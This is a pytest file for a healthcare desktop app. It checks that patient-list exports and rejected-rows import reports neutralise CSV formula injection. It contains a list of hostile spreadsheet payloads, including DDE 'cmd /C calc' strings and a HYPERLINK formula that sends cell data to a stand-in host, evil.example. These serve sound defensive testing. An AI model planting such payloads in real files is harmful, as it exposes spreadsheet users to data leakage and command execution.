"""CSV injection: no CSV the app writes (the list export, the rejected-rows report) holds a
cell a spreadsheet would run; phone numbers stay readable; a saved report imports as typed."""

from __future__ import annotations

import csv
from datetime import date

import pytest

from carecoord_desktop.services import csv_reading
from carecoord_desktop.services.patients import export as patient_export
from carecoord_desktop.services.patients import imports as patient_import
from carecoord_desktop.services.patients.record import PatientDraft, create_patient
from carecoord_desktop.services.patients.register import PatientFilter

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
RUNNABLE = ("=", "+", "-", "@", "\t", "\r")


pytestmark = pytest.mark.usefixtures("fast_password_hashing")


def _cells(path):
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _runs(cell: str) -> bool:
    return cell.lstrip(" ").startswith(RUNNABLE)


@pytest.mark.parametrize("value", HOSTILE)
def test_the_writer_neutralises_every_formula_start(tmp_path, value):
    out = tmp_path / "x.csv"
    with csv_reading.csv_file_atomically(out) as writer:
        writer.writerow(["Name", "Phone", "Count"])
        writer.writerow([value, "+61 3 9123 4567", 12])
    cells = _cells(out)
    assert not [c for c in cells if _runs(c)]
    assert cells[3] == "'" + value  # the text is all there, marked as text
    assert cells[4] == "'+61 3 9123 4567" and cells[5] == "12"
    assert csv_reading.unescape_cell(cells[3]) == value


def test_plain_values_are_written_unchanged(tmp_path):
    out = tmp_path / "x.csv"
    plain = ["O'Brien", "Zoë", "'quoted'", "2123456701", "1948-03-07", "a=b", "x-y"]
    with csv_reading.csv_file_atomically(out) as writer:
        writer.writerow(plain)
    assert _cells(out) == plain


def test_the_list_export_is_neutralised(ws, admin, tmp_path):
    for i, family in enumerate(HOSTILE[:4]):
        create_patient(
            ws,
            admin,
            PatientDraft(
                given_name=f"Given{i}",
                family_name=family,
                preferred_name="=1+1",
                date_of_birth=date(1950, 1, 1 + i),
                phone="+61 3 9123 4567",
            ),
        )
    out = tmp_path / "list.csv"
    assert patient_export.export_list(ws, admin, PatientFilter(), path=out) == 4
    cells = _cells(out)
    assert not [c for c in cells if _runs(c)]
    for family in HOSTILE[:4]:
        assert "'" + family in cells


def test_the_rejected_rows_report_is_neutralised_and_imports_back_as_typed(ws, admin, tmp_path):
    source = tmp_path / "in.csv"
    source.write_text(
        "Surname,First name,DOB,Mobile\n"
        '"=HYPERLINK(""http://evil.example"",""x"")",Ann,31/02/1950,+61 3 9123 4567\n'
        "@SUM(A1),Bob,01/01/2090,0412 345 678\n"
        "Smith,Cara,01/02/1950,0412 345 678\n",
        encoding="utf-8",
    )
    mapping = patient_import.guess_mapping(patient_import.read_csv(source).headers)
    plan = patient_import.validate(ws, admin, source, mapping)
    assert plan.rejected_count == 2
    report = tmp_path / "rejected.csv"
    patient_import.report_csv(plan, report)
    cells = _cells(report)
    assert not [c for c in cells if _runs(c)]
    assert "'+61 3 9123 4567" in cells
    # The user fixes the dates in the report and imports it again: the values are as typed.
    again = patient_import.read_csv(report)
    assert again.rows[0][0] == '=HYPERLINK("http://evil.example","x")'
    assert again.rows[0][3] == "+61 3 9123 4567"
    assert again.rows[1][0] == "@SUM(A1)"
